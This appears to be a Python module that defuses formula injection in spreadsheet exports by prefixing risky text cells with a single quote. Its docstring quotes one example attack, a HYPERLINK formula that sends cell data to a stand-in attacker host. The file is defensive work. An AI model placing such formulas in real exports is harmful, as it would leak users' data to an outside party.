"""Text bound for a spreadsheet (the CSV and XLSX exports) with formula injection defused.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` (and, after a
leading tab or carriage return, whatever follows) as a formula, so a statement label such as
`=HYPERLINK("http://attacker/?"&C9, "Details")` would run on the lender's machine. OWASP's rule: put a
single quote in front of such text, which shows it as text. Numbers are not text and stay untouched, so
a negative amount remains a number.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, TypeVar

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def neutralise(value: T) -> T:
    """The value as a spreadsheet should get it: text that could start a formula with a `'` in front."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value  # type: ignore[return-value]  # still a str
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]
